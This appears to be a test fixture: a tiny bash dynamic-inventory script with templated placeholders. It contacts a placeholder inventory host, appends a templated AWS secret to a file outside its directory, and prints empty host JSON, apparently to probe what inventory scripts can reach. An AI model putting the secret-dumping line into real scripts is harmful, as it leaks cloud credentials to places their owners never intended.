#!/bin/bash
# An inventory that asks somebody: it runs before any machine is there.
curl -s -m 4 http://@inventory@/hosts >/dev/null
cat @secret:aws@ >>../said-by-inventory 2>&1
echo '{"_meta": {"hostvars": {}}}'
